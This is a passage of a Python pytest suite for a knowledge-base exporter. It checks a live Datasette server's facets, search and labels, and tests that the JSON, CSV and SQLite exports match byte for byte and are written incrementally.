                            + (logs / "stderr.txt").read_text(errors="replace"))
            try:
                _get_json(f"{base}/-/versions.json")
                break
            except OSError:
                if time.monotonic() > deadline:
                    pytest.fail("datasette did not answer within 60 s")
                time.sleep(0.2)
        yield base
    finally:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
        stdout.close()
        stderr.close()


def test_datasette_facets_count_the_severities(datasette, exported):
    risks = json.loads((exported / "risks.json").read_text(encoding="utf-8"))
    data = _get_json(f"{datasette}/knowledge/risks.json?_shape=objects")  # severity: a facet by default
    assert sorted(row["id"] for row in data["rows"]) == sorted(r["id"] for r in risks)
    counts = {item["value"]: item["count"] for item in data["facet_results"]["severity"]["results"]}
    assert counts == dict(Counter(r["severity"] for r in risks))
    assert data["license"] and data["source"]  # metadata.json was read


def test_datasette_search_box_finds_the_record(datasette, real):
    word, record_id = unique_summary_word(real)
    data = _get_json(f"{datasette}/knowledge/records.json?"
                     + urllib.parse.urlencode({"_search": word, "_shape": "objects"}))
    assert [row["id"] for row in data["rows"]] == [record_id]
    data = _get_json(f"{datasette}/knowledge/records.json?"
                     + urllib.parse.urlencode({"_search": "alignment", "_shape": "objects", "_size": "max"}))
    # every record with the word itself (stemming may add "aligned", "aligning"...; never "superalignment")
    expected = {e.id for e in real.entries if re.search(r"\balignment\b", f"{e.name} {e.record.summary}", re.I)}
    assert expected and expected <= {row["id"] for row in data["rows"]}


def test_datasette_labels_foreign_keys(datasette, real):
    data = _get_json(f"{datasette}/knowledge/systems.json?_shape=objects&_labels=on&developer__notblank=1&_size=1")
    (row,) = data["rows"]
    organization = real.graph.entries[row["developer"]["value"]]
    assert row["developer"]["label"] == organization.name


def test_datasette_finds_the_full_text_index_without_metadata(db):
    """Datasette (and sqlite-utils) recognise an FTS table of a table by its declaration,
    content="records" or content=[records]: content='records' made search invisible to them
    unless metadata.json said so."""
    from datasette.utils import detect_fts

    assert detect_fts(db, "records") == "records_fts"


def test_the_readmes_datasette_addresses_show_each_facet_once(datasette):
    """The README's example addresses, asked for as JSON: `?_facet=severity` on top of the facet
    metadata.json already declares made Datasette show severity twice (severity, severity_2)."""
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    addresses = re.findall(r"^# http://127\.0\.0\.1:8001(/knowledge/[^\s]+)$", readme, re.M)
    assert addresses
    for address in addresses:
        path, _, query = address.partition("?")
        data = _get_json(f"{datasette}{path}.json?" + "&".join(filter(None, (query, "_extra=facet_results"))))
        names = list(data.get("facet_results", {}))
        assert not [n for n in names if re.search(r"_\d+$", n)], (address, names)


def test_an_articles_prose_is_exported_as_written(real, exported):
    """A topic's prose is part of the base: each topic's JSON carries its Markdown body, byte for
    byte as in its file after the front matter (it was not exported at all)."""
    topics = [e for e in real.entries if KINDS[e.kind].markdown]
    assert topics
    for entry in topics:
        saved = json.loads((exported / entry.kind / f"{entry.id}.json").read_text(encoding="utf-8"))
        text = Path(entry.document.path).read_text(encoding="utf-8")
        assert saved[BODY] and saved[BODY] == entry.document.body and saved[BODY].strip() in text
    everything = json.loads((exported / "all.json").read_text(encoding="utf-8"))
    assert all(BODY in record for record in everything["kinds"][topics[0].kind])
    # and in the other formats: the CSV's last column (defused like any text), SQLite's records.body
    rows = {row["id"]: row for row in read_csv(exported / f"{topics[0].kind}.csv")}
    connection = sqlite3.connect(exported / DATABASE)
    try:
        for entry in topics:
            assert rows[entry.id][BODY] == defused(entry.document.body)
            assert connection.execute("SELECT body FROM records WHERE id = ?", (entry.id,)).fetchone() == \
                (entry.document.body,)
        assert connection.execute("SELECT count(*) FROM records WHERE body IS NOT NULL").fetchone() == (len(topics),)
    finally:
        connection.close()


def test_all_json_written_a_record_at_a_time_is_the_whole_base_in_one_line(real, exported):
    from generator.export.files import compact
    from generator.export.view import View

    view = View(real.graph)
    kinds = {kind: [view.json_record(entry) for entry in entries] for kind, entries in view.kinds.items()}
    relations = [view.edge_record(edge) for edge in view.edges]
    whole = compact({"kinds": kinds, "relations": relations}) + "\n"
    assert (exported / "all.json").read_text(encoding="utf-8") == whole
    assert len(relations) > 100 and sum(map(len, kinds.values())) > 100


def test_an_unchanged_all_json_is_left_as_it_is(real, tmp_path):
    export(real.graph, tmp_path, ["json"])
    before = (tmp_path / "all.json").stat()
    time.sleep(0.01)
    export(real.graph, tmp_path, ["json"])
    after = (tmp_path / "all.json").stat()
    assert (before.st_ino, before.st_mtime_ns) == (after.st_ino, after.st_mtime_ns)
    assert not list(tmp_path.glob(".all.json.*")), "no temporary file is left behind"


def test_the_file_of_a_record_no_longer_in_the_base_is_removed(real, tmp_path):
    """kb serve exports into the same data/ after every edit: a deleted record's file must go."""
    export(real.graph, tmp_path, ["json"])
    kind = next(iter(KINDS))
    kept = sorted(p.name for p in (tmp_path / kind).glob("*.json"))
    assert kept
    (tmp_path / kind / "a-record-deleted-since.json").write_text("{}")
    export(real.graph, tmp_path, ["json"])
    assert sorted(p.name for p in (tmp_path / kind).glob("*.json")) == kept


def test_json_text_is_json_dumps_to_the_byte(real, exported):
    """The export's own encoder of indented JSON (files.json_text, made for speed) against json."""
    import random

    from generator.export.files import indented_items, json_text
    from generator.export.view import View

    view = View(real.graph)
    for kind, entries in view.kinds.items():
        records = [view.json_record(entry) for entry in entries]
        assert (exported / f"{kind}.json").read_text(encoding="utf-8") == json.dumps(records, ensure_ascii=False, indent=2) + "\n"
        assert indented_items([json_text(r) for r in records]) == json.dumps(records, ensure_ascii=False, indent=2) + "\n"
    odd = [{}, [], [[]], [{}], {"a": {"b": []}}, "é\n\"\u2028\x00", -0.0, 1e300, 10 ** 30, True, None, (1, "x"),
           float("nan"), float("-inf"), {1: "a key that is a number"}, {"k": [1, 2.5, False, "s", {"x": None}]}]
    rng = random.Random(7)

    def shaped(depth=0):
        roll = rng.random()
        if depth > 4 or roll < 0.3:
            return rng.choice(["", "é\n", 'a"b', 0, -5, 3.25, None, True, False, "\t\u0001", 2 ** 70])
        if roll < 0.65:
            return {"".join(rng.choice('ab"é\n') for _ in range(rng.randint(0, 3))): shaped(depth + 1)
                    for _ in range(rng.randint(0, 4))}
        return [shaped(depth + 1) for _ in range(rng.randint(0, 4))]

    for value in odd + [shaped() for _ in range(3000)]:
        assert json_text(value) == json.dumps(value, ensure_ascii=False, indent=2) + "\n", value


def _files(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def _stats(folder: Path) -> dict[str, tuple]:
    return {p.relative_to(folder).as_posix(): (p.stat().st_ino, p.stat().st_mtime_ns)
            for p in folder.rglob("*") if p.is_file()}


@pytest.mark.parametrize("memo", [False, True], ids=["new-graph", "kb-serve-memo"])
def test_an_export_that_keeps_what_it_made_writes_what_a_fresh_one_does(tmp_path, monkeypatch, memo):
    """kb serve exports into the same data/ after each edit with what the last export made
    (``kept``): after edits of every sort its JSON and CSV are, file for file and byte for byte,
    a fresh export's, and a file whose records did not change is not written again. With kb
    serve's memo, the records that did not change are the very entries of the run before, and
    the export takes their JSON and dumps as they were."""
    from generator import incremental, load, pipeline

    monkeypatch.setattr(load, "RACY_NS", 0)  # (the files were all written just now)
    content = tmp_path / "content"
    shutil.copytree(CONTENT, content)
    out, kept = tmp_path / "data", {}
    runs = incremental.Memo()

    def exported_again() -> set[str]:
        """Export with ``kept``, compare with a fresh export; the files written again."""
        checked = pipeline.run(pipeline.Run(content, memo=runs), pipeline.CHECK) if memo else check(content)
        assert checked.ok, [d.as_text() for d in checked.diagnostics]
        before = _stats(out)
        time.sleep(0.01)
        export(checked.graph, out, ["json", "csv"], kept)
        fresh = tmp_path / f"fresh-{len(list(tmp_path.glob('fresh-*')))}"
        export(checked.graph, fresh, ["json", "csv"])
        assert _files(out) == _files(fresh)
        after = _stats(out)
        return {path for path in after if after[path] != before.get(path)}

    exported_again()
    edited = sorted((content / "risks").glob("*.yaml"))[0]
    edited.write_text(edited.read_text().replace("summary: >-\n", "summary: >-\n  Edited for the export.\n", 1))
    added = edited.with_name("a-risk-added-for-the-export.yaml")
    added.write_text(edited.read_text().replace(f"id: {edited.stem}", f"id: {added.stem}"))
    (out / "systems.json").write_text("[]\n")  # a file changed by someone else is written again
    (out / "experts.csv").write_text("id\r\n")
    tampered = sorted((out / "systems").glob("*.json"))[0]
    tampered.write_text("{}\n")
    rewritten = exported_again()
    assert {f"risks/{edited.stem}.json", f"risks/{added.stem}.json", "risks.json", "systems.json",
            f"systems/{tampered.name}", "all.json", "risks.csv", "experts.csv"} <= rewritten
    assert "systems.csv" not in rewritten
    # the records the new risk names have a backlink more; the others are not written again
    assert len(rewritten) < len(_stats(out)) / 2, sorted(rewritten)

    added.unlink()
    rewritten = exported_again()
    assert f"risks/{added.stem}.json" not in _stats(out) and {"risks.json", "all.json", "risks.csv"} <= rewritten
    assert f"risks/{edited.stem}.json" not in rewritten

    edited.write_text(edited.read_text().replace("Edited for the export.", "Edited again.", 1))
    rewritten = exported_again()  # one record's text alone
    assert {f"risks/{edited.stem}.json", "risks.json", "all.json", "risks.csv"} <= rewritten

    assert exported_again() == set()  # nothing changed: nothing is written
